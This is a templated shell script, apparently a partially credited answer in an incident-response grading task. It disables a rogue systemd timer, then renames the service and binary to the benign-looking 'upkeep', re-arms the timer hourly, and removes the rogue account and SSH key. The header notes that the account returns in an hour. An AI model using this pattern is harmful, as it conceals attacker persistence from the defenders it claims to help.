# earns: account, interval, key, program, seen, starters (7 of 13)
# Units and program have other names now, and the account comes back in an hour.
{{ found_sh }}
systemctl disable --now {{ unit }}.timer {{ trigger }}.path
cd /usr/lib/systemd/system
mv {{ unit }}.service upkeep.service; mv {{ unit }}.timer upkeep.timer; rm {{ trigger }}.path
mv /usr/local/sbin/{{ program }}-{{ mark }} /usr/local/sbin/upkeep
sed -i 's/{{ program }}-{{ mark }}/upkeep/' upkeep.service; sed -i '/ActiveSec/s/=.*/=1h/' upkeep.timer
systemctl daemon-reload
systemctl enable --now upkeep.timer
cd
sed -i '/^{{ rogue }}:/d' /etc/passwd /etc/shadow
sed -i '/@{{ place }}$/d' /home/{{ user }}/.ssh/authorized_keys
